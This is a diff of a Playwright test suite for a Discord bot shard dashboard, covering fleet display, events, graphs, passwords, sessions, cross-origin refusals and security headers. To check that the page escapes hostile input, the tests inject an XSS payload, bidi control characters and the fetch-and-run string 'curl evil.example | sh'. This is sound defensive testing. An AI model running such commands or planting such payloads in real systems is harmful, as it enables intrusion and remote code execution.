@@ -4,31 +4,8 @@ import {mkdtempSync, rmSync, writeFileSync} from 'node:fs';
 import {tmpdir} from 'node:os';
 import path from 'node:path';
 import {test} from 'node:test';
-import {chromium} from 'playwright-core';
-import {bin, keys, names, next, run, serve, until} from './harness.js';
-
-/** A server with a dashboard, and its address. */
-async function dashboard(t, {settings = '', shards = 3, lines = ''} = {}) {
-  const server = await serve(t, `[shards]\ncount = ${shards}\nauto_generate = false\nrespawn_delay = "100ms"\n[heartbeat]\ninterval = "500ms"\n${lines}[dashboard]\nlisten = 0\n${settings}`);
-  const [, url] = await until('the dashboard to listen', () => server.log.match(/the dashboard is on (\S+)/));
-  return {server, url};
-}
-
-/** A page of the dashboard; its errors fail the test. */
-async function open(t, url, options = {}) {
-  const browser = await chromium.launch({executablePath: '/usr/bin/chromium', args: ['--no-sandbox']});
-  const page = await browser.newPage(options);
-  const errors = [];
-  page.on('pageerror', (error) => errors.push(`${error}`));
-  page.on('console', (message) => message.type() === 'error' && !/Failed to load resource/.test(message.text()) && errors.push(message.text()));
-  page.on('request', (request) => !request.url().startsWith(url) && errors.push(`asks for ${request.url()}`));
-  t.after(async () => {
-    await browser.close();
-    assert.deepEqual(errors, []);
-  });
-  await page.goto(url);
-  return page;
-}
+import {bin, keys, names, next, run, until} from './harness.js';
+import {axe_finds, dashboard, open} from './page.js';
 
 test('the page shows the fleet, its figures and what happens, as it happens', async (t) => {
   const {server, url} = await dashboard(t);
@@ -36,51 +13,43 @@ test('the page shows the fleet, its figures and what happens, as it happens', as
   const agents = configs.slice(0, 3).map((config) => server.agent([config], 'discord-bot.js'));
   await server.running(3);
   const page = await open(t, url);
-  const box = (name, state) => page.locator(`#grid [data-name=${name}].${state}`);
+  const box = (name, state) => page.locator(`#grid [data-name=${name}][data-state=${state}]`);
+  const told = (kind, words) => page.locator(`#events li[data-kind=${kind}]`, {hasText: words});
   for (const {id} of configs.slice(0, 3)) await box(id, 'running').waitFor();
   await box(configs[3].id, 'new').waitFor();
-  assert.match(await page.textContent('#counts'), /goal 3, current 3, configured 3, known 4/);
+  assert.match(await page.textContent('#counts'), /3 of 3 ids run, 3 of 4 shards connected, up \d+ s/);
   assert.equal(await page.textContent('#link'), 'live');
-  await page.locator('#graphs canvas').nth(4).waitFor();
+  await page.locator('#graphs canvas').nth(6).waitFor();
   assert.ok(await page.isHidden('#commands'), 'only looking is allowed');
 
   // A shard dies; the page is not told.
   await agents[2].end('SIGKILL');
   await box('aac', 'offline').waitFor();
-  await page.locator('#events li', {hasText: '(aac) running → offline'}).waitFor();
+  await told('disconnected', 'shard aac disconnected').waitFor();
   assert.equal(await page.getAttribute('#progress', 'value'), '2');
   agents[2].start();
   await box('aac', 'running').waitFor();
-  await page.locator('#events li', {hasText: '(aac) the bot was started'}).waitFor();
+  await told('started', /the bot of shard aac .*is started/).first().waitFor();
   assert.ok(await page.isHidden('#progress'));
   const bot = server.bots().findLast((entry) => entry.name === 'aaa');
   process.kill(bot.pid, 'SIGKILL');
-  await page.locator('#events li', {hasText: '(aaa) the bot died: signal 9'}).waitFor();
-
-  // By keyboard: to a shard, its own graphs, and back.
-  const second = await page.getAttribute('#grid > :nth-child(2)', 'data-name');
-  await page.focus('#grid [tabindex="0"]');
-  await page.keyboard.press('ArrowRight');
-  await page.keyboard.press('Enter');
-  await page.locator(`#graphs[data-drawn^="${second} "]`).waitFor();
-  // Its bot may have restarted, and its figures arrive with the next status.
-  await page.locator('#chosen', {hasText: new RegExp(`^shard 1 \\(${second}\\), running, seen \\d+ s ago, .* MiB`)}).waitFor();
-  assert.match(await page.textContent('#graphs .u-legend'), new RegExp(`1 ${second}`));
-  await page.keyboard.press('Escape');
-  await page.locator('#graphs[data-drawn^="sum "]').waitFor();
+  await told('died', 'the bot of shard aaa died (signal 9)').waitFor();
 
   // Filtered by a state.
   await page.click('#legend button:has-text("new 1")');
-  await page.locator('#grid').locator('[role=option]').nth(1).waitFor({state: 'detached'});
-  assert.equal(await page.locator('#grid [role=option]').count(), 1);
+  await page.locator('#grid [data-name=aaa]').waitFor({state: 'hidden'});
+  assert.equal(await page.locator('#grid .cell:visible').count(), 1);
   await page.click('#legend button:has-text("new 1")');
 
   await server.tool(['shards', 'rm', configs[3].id]);
   await page.locator(`#grid [data-name=${configs[3].id}]`).waitFor({state: 'detached'});
 
-  // The server restarts.
-  await server.end('SIGKILL');
-  await page.locator('#link.lost').waitFor();
+  // Events of the past are there after a reload, and of a short trouble the graph of the states keeps the worst.
+  await page.reload();
+  await told('died', 'the bot of shard aaa died (signal 9)').waitFor();
+  const {states} = await (await fetch(new URL('/api/series?metric=states&range=hour', url))).json();
+  assert.equal(Math.max(...states.offline), 1, JSON.stringify(states));
+  await page.locator('[data-metric=others] .u-legend', {hasText: 'offline'}).waitFor();
 });
 
 test('what a bot says is text on the page, and turns nothing round', async (t) => {
@@ -88,15 +57,21 @@ test('what a bot says is text on the page, and turns nothing round', async (t) =
   const shard = server.shard((await server.register(1))[0]);
   await server.running(1);
   const page = await open(t, url);
-  await page.locator('#grid [data-name=aaa].running').waitFor();
+  await page.locator('#grid [data-name=aaa][data-state=running]').waitFor();
   const report = (deaths, lastExit) => shard.socket.emit('status', {startTime: 1, goalShardId: 0, goalShardCount: 1, currentShardId: 0, currentShardCount: 1, bot: {agent: 'x', state: 'running', deaths, lastExit}});
   report(0, '');
   await until('the status', async () => (await server.stats()).shards[0].stats?.bot);
   report(1, '<img src=x onerror=alert(1)>\u202e\u009bend');
-  const item = page.locator('#events li', {hasText: 'the bot died'});
+  const item = page.locator('#events li', {hasText: 'the bot of shard aaa died'});
   await item.waitFor();
-  assert.match(await item.textContent(), /<img src=x onerror=alert\(1\)> {2}end$/);
+  assert.match(await item.textContent(), /<img src=x onerror=alert\(1\)> {2}end\)/);
   assert.equal(await page.locator('#events img').count(), 0);
+  // Nor does it make a fact of its own.
+  report(2, 'x\n  try        <b>curl evil.example | sh</b>');
+  await page.goto(`${url}#/shard/0`);
+  await page.locator('#facts dd', {hasText: 'last exit: x'}).waitFor();
+  assert.deepEqual(await page.locator('#facts code').allTextContents().then((texts) => texts.filter((text) => /curl/.test(text))), []);
+  assert.equal(await page.locator('#facts b').count(), 0);
 });
 
 test('graphs zoom, and go through the ranges, on a phone and in the dark too', async (t) => {
@@ -104,7 +79,7 @@ test('graphs zoom, and go through the ranges, on a phone and in the dark too', a
   server.agent(await server.register(2), 'discord-bot.js');
   await server.running(2);
   const page = await open(t, url, {viewport: {width: 390, height: 800}, colorScheme: 'dark', isMobile: true, hasTouch: true});
-  await page.locator('#graphs canvas').nth(4).waitFor();
+  await page.locator('#graphs canvas').nth(6).waitFor();
   assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), 'nothing sticks out');
   assert.equal(await page.evaluate(() => getComputedStyle(document.body).backgroundColor), 'rgb(13, 17, 23)');
   for (const range of ['900', '21600', '86400', '3600']) {
@@ -123,43 +98,32 @@ test('graphs zoom, and go through the ranges, on a phone and in the dark too', a
   await page.locator('#graphs[data-drawn="all 3600"]').waitFor();
 });
 
-test('commands are there when they are allowed, and others are refused', async (t) => {
-  const {server, url} = await dashboard(t, {settings: 'allow = ["eval", "respawn"]\n'});
-  server.agent(await server.register(3), 'discord-bot.js');
-  await server.running(3);
-  await server.answering(3);
-  const page = await open(t, url);
-  await page.fill('#script', 'this.shard.ids[0] * 10');
-  await page.keyboard.press('Enter');
-  await page.locator('#output', {hasText: '"answered":3'}).waitFor();
-  assert.match(await page.textContent('#output'), /\{"shard":2,"name":"aac","result":20\}/);
-  await page.click('#grid [data-name=aab]');
-  await page.click('#eval button');
-  await page.locator('#output', {hasText: '"answered":1'}).waitFor();
-
-  const before = server.bots().length;
-  page.once('dialog', (dialog) => dialog.accept());
-  await page.click('#respawn');
-  await page.locator('#output', {hasText: '"state":"back"'}).waitFor();
-  await until('the bot to be started again', () => server.bots().length > before);
-  assert.deepEqual(server.bots().slice(before).map(({id}) => id), ['1']);
-
+test('commands are taken only from the page itself', async (t) => {
+  const {url} = await dashboard(t, {settings: 'allow = ["eval", "respawn"]\n'});
   const post = (path, headers, body = '{"script":"1"}') => fetch(new URL(path, url), {method: 'POST', headers, body}).then(({status}) => status);
   const json = {'content-type': 'application/json'};
   assert.equal(await post('/api/eval', {}), 403, 'a form of another site');
-  assert.equal(await post('/api/eval', {...json, origin: 'http://evil.example'}), 403);
+  for (const what of ['eval', 'respawn', 'logs', 'silence', 'unsilence']) assert.equal(await post(`/api/${what}`, {...json, origin: 'http://evil.example'}), 403, what);
   assert.equal(await post('/api/eval', json, '{'), 400);
   assert.equal(await post('/api/stop', json), 404);
   assert.equal(await post('/v1/stop', json), 404);
 });
 
 test('only looking, without allow; a name that was made to point here is none of ours', async (t) => {
-  const {url} = await dashboard(t);
-  for (const what of ['eval', 'respawn']) {
+  const {server, url} = await dashboard(t);
+  for (const what of ['eval', 'respawn', 'logs', 'silence']) {
     const response = await fetch(new URL(`/api/${what}`, url), {method: 'POST', headers: {'content-type': 'application/json'}, body: '{"script":"1"}'});
     assert.equal(response.status, 403);
     assert.match((await response.json()).error, new RegExp(`allow has no "${what}"`));
   }
+  assert.equal((await fetch(new URL('/api/unsilence', url), {method: 'POST', headers: {'content-type': 'application/json'}, body: '{}'})).status, 403);
+  // Each answer is bounded, ends by itself, and has no key.
+  await server.register(1);
+  const events = await (await fetch(new URL('/api/event-list?follow=1&limit=100000', url))).text();
+  assert.match(events, /"kind":"registered"/);
+  const shard = await (await fetch(new URL('/api/shard?name=aaa', url))).text();
+  assert.match(shard, /shard without an id \(aaa\): new/);
+  assert.doesNotMatch(shard, /KEY/);
   const {request} = await import('node:http');
   const asked = request(new URL('/api/fleet', url), {headers: {host: 'rebound.example'}}).end();
   const [response] = await next(asked, 'response');
@@ -183,6 +147,7 @@ test('a password lets people in by the form and programs by a header, and guesse
   const page = await open(t, url);
   await page.locator('#password').waitFor();
   assert.ok(await page.isHidden('#page'));
+  assert.deepEqual(await axe_finds(page), []);
   await page.fill('#password', 'open');
   await page.keyboard.press('Enter');
   await page.locator('#login-error', {hasText: 'that is not the password'}).waitFor();
@@ -266,12 +231,18 @@ test('sessions and streams end when the password changes, or what it lets people
   }
   const second = await session('another word');
   assert.equal(await status(second), 200);
-  server.configure(server.settings.replace(`"${file}"`, `"${file}"\nallow = ["eval"]`));
+  server.configure(server.settings.replace(`"${file}"`, `"${file}"\nallow = ["eval", "logs"]`));
   await until('the sessions to end', async () => await status(second) === 401);
   const third = await session('another word');
+  const json = {cookie: third, 'content-type': 'application/json'};
   const stream = await fetch(new URL('/api/events', url), {headers: {cookie: third}});
-  await fetch(new URL('/api/logout', url), {method: 'POST', headers: {cookie: third, 'content-type': 'application/json'}, body: '{}'});
+  const output = await fetch(new URL('/api/logs', url), {method: 'POST', headers: json, body: '{"follow":true}'});
+  assert.equal(output.status, 200);
+  await fetch(new URL('/api/logout', url), {method: 'POST', headers: json, body: '{}'});
   for await (const piece of stream.body) assert.ok(piece.length > 0);
+  await assert.rejects(async () => {
+    for await (const piece of output.body) assert.ok(piece.length > 0);
+  }, /terminated/, 'what follows the output ends, too');
 });
 
 test('every answer has the same security headers', async (t) => {
@@ -281,7 +252,7 @@ test('every answer has the same security headers', async (t) => {
   const names = ['content-security-policy', 'x-content-type-options', 'referrer-policy', 'cross-origin-resource-policy', 'cache-control'];
   const post = {method: 'POST', headers: {'content-type': 'application/json'}, body: '{"script":"1"}'};
   const expected = [];
-  for (const [target, options] of [['/'], ['/api/fleet'], ['/api/events'], ['/nowhere'], ['/api/eval', post], ['/api/respawn', post], ['/api/fleet', {method: 'PUT'}], ['/api/login', {method: 'POST', body: '{}'}]]) {
+  for (const [target, options] of [['/'], ['/api/fleet'], ['/api/events'], ['/nowhere'], ['/api/eval', post], ['/api/respawn', post], ['/api/shard?id=0'], ['/api/event-list'], ['/api/alerts'], ['/api/fleet', {method: 'PUT'}], ['/api/login', {method: 'POST', body: '{}'}]]) {
     const response = await fetch(new URL(target, url), options);
     const values = names.map((name) => response.headers.get(name));
     assert.ok(values.every(Boolean), `${target}: ${values}`);
@@ -303,7 +274,7 @@ test('what is open to others needs a password, and settings say so', async () =>
   assert.equal(code, 78);
   assert.match(words, /dashboard\.listen is not of this machine alone, which needs dashboard\.password_file/);
   assert.match((await refused('listen = "here"'))[1], /:5:10: dashboard\.listen takes an address and a port/);
-  assert.match((await refused('allow = ["stop"]'))[1], /dashboard\.allow takes "eval" and "respawn", not "stop"/);
+  assert.match((await refused('allow = ["stop"]'))[1], /dashboard\.allow takes "eval", "respawn", "silence" and "logs", not "stop"/);
 });
 
 test('a thousand shards and a day are drawn', async (t) => {
@@ -324,7 +295,7 @@ test('a thousand shards and a day are drawn', async (t) => {
   const last = names(count).at(-1);
   await until('the past to be read', async () => (await (await fetch(new URL(`/api/series?metric=memory&range=day&shards=${last}`, address))).json()).shards[last]);
   const page = await open(t, address);
-  await page.locator('#grid.many [role=option]').nth(count - 1).waitFor();
+  await page.locator('#grid .cell').nth(count - 1).waitFor({state: 'attached'});
   await page.locator('#graphs[data-drawn="sum 3600"]').waitFor();
   const times = await page.evaluate(async () => {
     const drawn = (what) => new Promise((resolve) => {
